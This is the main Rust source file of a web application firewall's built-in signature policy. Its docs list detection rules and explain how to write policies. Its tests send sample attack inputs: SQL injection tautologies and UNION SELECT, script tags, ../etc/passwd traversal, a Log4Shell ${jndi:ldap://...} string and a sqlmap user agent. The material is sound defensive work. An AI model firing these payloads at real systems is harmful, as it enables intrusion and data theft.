//! # signatures: the built-in rule set, and how to write a policy
//!
//! This crate is two things:
//!
//! - **The default rule set** a tenant gets when it configures no OWASP CRS:
//!   signatures for SQL injection, cross-site scripting, path traversal,
//!   Log4Shell and well-known scanners, tuned to block real attacks while
//!   letting ordinary API traffic through (`O'Brien`, "select a plan",
//!   `/v1.2/file.tar.gz`).
//! - **The worked example of the edgewaf SDK.** Every policy is built the same
//!   way; the steps below point at the file of this crate that does each one.
//!
//! ## Using it
//!
//! ```toml
//! # policies/shop.toml
//! [[policy]]
//! module = "signatures"
//! [policy.config]
//! categories = ["sqli", "xss", "lfi", "log4shell", "scanner"]  # default: all
//! disabled_rules = []                                          # e.g. ["sig-xss-5"]
//! paranoia = 1                                                 # 2: stricter, more false positives
//! ```
//!
//! | id | what | paranoia |
//! |----|------|----------|
//! | `sig-sqli-1` | quoted tautology `' OR '1'='1` | 1 |
//! | `sig-sqli-2` | numeric tautology `1 or 1=1` | 1 |
//! | `sig-sqli-3` | string closed, rest commented out `admin'--` | 1 |
//! | `sig-sqli-4` | `UNION [ALL] SELECT` (also with `/**/` comments) | 1 |
//! | `sig-sqli-5` | stacked query `'; DROP TABLE` | 1 |
//! | `sig-sqli-6` | time-based blind `' and sleep(5)`, `waitfor delay` | 1 |
//! | `sig-sqli-7` | fingerprinting `@@version`, `information_schema.`, `load_file(` | 1 |
//! | `sig-sqli-8` | any `SELECT ... FROM` | 2 |
//! | `sig-xss-1` | `<script`, also namespaced `<x:script` | 1 |
//! | `sig-xss-2` | `javascript:` / `vbscript:` URI followed by code | 1 |
//! | `sig-xss-3` | event handler in a tag `<img onerror=`, `<svg/onload=` | 1 |
//! | `sig-xss-4` | `document.cookie`, `String.fromCharCode(`, `.innerHTML=` | 1 |
//! | `sig-xss-5` | `data:text/html` URI | 1 |
//! | `sig-xss-6` | any `<iframe`, `<svg`, `<object`, ... | 2 |
//! | `sig-xss-7` | attribute breakout `" onmouseover=` (known handler names) | 1 |
//! | `sig-lfi-1` | `../` traversal (every encoding; in every header too) | 1 |
//! | `sig-lfi-2` | a value that is an OS file path (`/etc/passwd`, `win.ini`) | 1 |
//! | `sig-lfi-3` | path probing `/.env`, `/.git/` | 1 |
//! | `sig-lfi-4` | PHP / archive stream wrappers `php://filter`, `phar://` | 1 |
//! | `sig-log4shell-1` | `${jndi:` after resolving nested lookups | 1 |
//! | `sig-log4shell-2` | any Log4j lookup `${env:`, `${lower:` | 2 |
//! | `sig-scanner-1` | scanner user agents (sqlmap, nikto, nuclei, ...) | 1 |
//! | `sig-scanner-2` | scanner marker headers (Acunetix, WebInspect) | 1 |
//!
//! Looked at: the path, query and form names and values, JSON bodies (every
//! string and key, as `ARGS:json.user.name`), multipart form fields and
//! upload file names (`FILES:name`), other bodies raw, cookies, and
//! the `User-Agent`, `Referer` and `X-Forwarded-For` headers (every header
//! from paranoia 2; Log4Shell and traversal always look at every header). Each value is
//! decoded first — percent-encoding repeatedly, overlong UTF-8, HTML entities —
//! so `%252e%252e%252f` and `&lt;script&gt;` are seen for what they are.
//! A match denies the request with the tenant's deny status; each finding
//! carries the rule id, the place (`ARGS:id`) and the decoded match.
//!
//! ## Writing a policy, step by step
//!
//! **1. A crate.** `guests/policies/<name>/Cargo.toml` builds both a component and
//! a Rust library (the library is what native tests link):
//!
//! ```toml
//! [lib]
//! crate-type = ["cdylib", "rlib"]
//!
//! [dependencies]
//! edgewaf-sdk = { path = "../../../libs/sdk" }
//! serde = { version = "1", features = ["derive"] }
//! serde_json = "1"
//! ```
//!
//! Every dependency must build for `wasm32-wasip2`; pure-Rust crates such as
//! `regex`, `aho-corasick` and `ipnet` do.
//!
//! **2. A config type** ([`config`]). The host turns the tenant's
//! `[policy.config]` TOML table into JSON and hands it to `init`. Deserialize
//! it with serde and `#[serde(deny_unknown_fields)]`, so a typo such as
//! `disabled_rule` fails at load time with "unknown field `disabled_rule`"
//! instead of being silently ignored. Check what serde cannot (here: that
//! every id in `disabled_rules` exists) and name the field in the error.
//!
//! **3. Do the expensive work once, in `init`** ([`engine::Engine::new`]).
//! An instance lives for many requests, so compile regexes and automata there
//! and keep them in the policy value. `init` returning `Err` makes the host
//! refuse to load the policy and show your message to the operator.
//!
//! **4. Say what you need** (`capabilities`). The host copies the request
//! body into the guest only for policies that ask; this one does
//! (`request_body: true`) because attacks arrive in JSON and form bodies.
//!
//! **5. Decide** (`on_request`). Read the request through the SDK's helpers —
//! [`Request::path`], [`Request::query_params`], [`Request::form`],
//! [`Request::json`], [`Request::cookies`], [`Request::header`] — (see
//! [`targets`]), and answer with a [`Verdict`]: `Verdict::allow()`, or
//! `Verdict::deny(reason)` plus one [`Finding`] per rule that matched. The
//! reason and findings go to the decision log; the client only ever sees the
//! deny status and a request id.
//!
//! **6. Export it** with `edgewaf_sdk::export_policy!(Signatures);` (bottom of
//! this file). Natively the macro expands to nothing.
//!
//! **7. Test it natively.** [`edgewaf_sdk::testing::Harness`] runs the policy
//! like the host would, with an in-memory host behind `edgewaf_sdk::host`:
//!
//! ```
//! use edgewaf_sdk::prelude::*;
//! use edgewaf_sdk::testing::Harness;
//! use signatures::Signatures;
//!
//! let h = Harness::<Signatures>::new(r#"{"categories": ["sqli"]}"#).unwrap();
//!
//! let attack = Request::builder().target("/items?id=1%27%20OR%20%271%27=%271").build();
//! let v = h.on_request(&attack);
//! assert!(v.is_deny());
//! assert_eq!(v.rule_ids(), vec!["sig-sqli-1"]);
//! assert!(v.findings[0].data.starts_with("ARGS:id: "));
//!
//! let benign = Request::builder()
//!     .method("POST")
//!     .target("/v1/customers")
//!     .header("content-type", "application/json")
//!     .body(r#"{"name": "Siobhán O'Brien", "note": "please select the annual plan"}"#)
//!     .build();
//! assert!(h.on_request(&benign).is_allow());
//!
//! // A typo in the config is refused with the field's name.
//! let err = Harness::<Signatures>::new(r#"{"paranoya": 2}"#).err().unwrap();
//! assert!(err.contains("paranoya"));
//! ```
//!
//! This crate's own tests are in each module, plus `tests/corpus.rs`, which
//! runs the attack and benign requests of `testdata/attacks.json` and
//! `testdata/benign.json`: every attack must be denied by the expected rule,
//! every benign request allowed.
//!
//! **8. Build and deploy.** `cargo build --release --target wasm32-wasip2 -p
//! signatures` writes `signatures.wasm`; put it where the host's `[policies]
//! modules` setting points and reference it from a tenant file as
//! `module = "signatures"`.
#![deny(missing_docs)]

pub mod config;
pub mod decode;
pub mod engine;
pub mod log4shell;
pub mod multipart;
pub mod rules;
pub mod targets;

use edgewaf_sdk::prelude::*;
use engine::{Engine, Hit};

/// The policy: the compiled rule set.
pub struct Signatures {
    engine: Engine,
}

impl Signatures {
    /// Ids of the rules this instance runs.
    pub fn rule_ids(&self) -> Vec<&'static str> {
        self.engine.rule_ids()
    }
}

impl Policy for Signatures {
    fn init(config: &str) -> Result<Self, String> {
        let config = config::Config::parse(config)?;
        Ok(Signatures {
            engine: Engine::new(&config)?,
        })
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            request_body: true,
            inspect_response: false,
        }
    }

    fn on_request(&self, req: &Request) -> Verdict {
        let hits = self.engine.scan(&targets::collect(req));
        let Some(first) = hits.first() else {
            return Verdict::allow();
        };
        let reason = format!(
            "signatures: {} ({}) at {}",
            first.rule.id, first.rule.message, first.location
        );
        Verdict::deny(reason).with_findings(hits.iter().map(finding))
    }
}

fn finding(hit: &Hit) -> Finding {
    Finding::new(hit.rule.id, hit.rule.message)
        .severity(hit.rule.severity)
        .tag(format!("attack-{}", hit.rule.category.name()))
        .tag(format!("paranoia-level/{}", hit.rule.paranoia))
        .data(format!("{}: {}", hit.location, hit.matched))
}

edgewaf_sdk::export_policy!(Signatures);

#[cfg(test)]
mod tests {
    use super::*;
    use edgewaf_sdk::testing::Harness;

    #[test]
    fn asks_for_the_body() {
        let h = Harness::<Signatures>::new("{}").unwrap();
        assert_eq!(
            h.policy().capabilities(),
            Capabilities {
                request_body: true,
                inspect_response: false
            }
        );
    }

    #[test]
    fn finding_shape() {
        let h = Harness::<Signatures>::new("{}").unwrap();
        let v = h.on_request(
            &Request::builder()
                .target("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
                .build(),
        );
        assert!(v.is_deny());
        assert_eq!(v.deny_status_code(), Some(0), "the tenant's deny status");
        let f = &v.findings[0];
        assert_eq!(f.rule_id, "sig-xss-1");
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.tags, vec!["attack-xss", "paranoia-level/1"]);
        assert_eq!(f.data, "ARGS:q: <script");
    }

    #[test]
    fn long_matches_are_shortened() {
        let h = Harness::<Signatures>::new("{}").unwrap();
        let payload = format!("${{jndi:ldap://{}.example/a}}", "a".repeat(500));
        let v = h.on_request(&Request::builder().header("x-api-version", payload).build());
        assert_eq!(v.rule_ids(), vec!["sig-log4shell-1"]);
        assert!(v.findings[0].data.len() < 220, "{}", v.findings[0].data);
        assert!(
            v.findings[0]
                .data
                .starts_with("REQUEST_HEADERS:x-api-version: ${jndi:ldap://aaa")
        );
    }

    #[test]
    fn several_rules_report_together() {
        let h = Harness::<Signatures>::new("{}").unwrap();
        let v = h.on_request(
            &Request::builder()
                .target("/x/../../etc/passwd?id=1%20union%20select%20pass%20from%20users")
                .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
                .build(),
        );
        let ids = v.rule_ids();
        for want in ["sig-sqli-4", "sig-lfi-1", "sig-scanner-1"] {
            assert!(ids.contains(&want), "{want} missing from {ids:?}");
        }
    }

    #[test]
    fn disabled_rule_and_category_are_respected() {
        let req = Request::builder().target("/p?x=%3Cscript%3E").build();
        let h = Harness::<Signatures>::new(r#"{"disabled_rules":["sig-xss-1"]}"#).unwrap();
        assert!(h.on_request(&req).is_allow());
        let h = Harness::<Signatures>::new(r#"{"categories":["sqli","lfi"]}"#).unwrap();
        assert!(h.on_request(&req).is_allow());
        assert!(
            !h.policy()
                .rule_ids()
                .iter()
                .any(|id| id.starts_with("sig-xss"))
        );
    }

    #[test]
    fn init_error_is_friendly() {
        let err = Harness::<Signatures>::new(r#"{"categories":["sqlinjection"]}"#)
            .err()
            .unwrap();
        assert!(err.starts_with("signatures config: "), "{err}");
        assert!(err.contains("sqlinjection"), "{err}");
    }
}
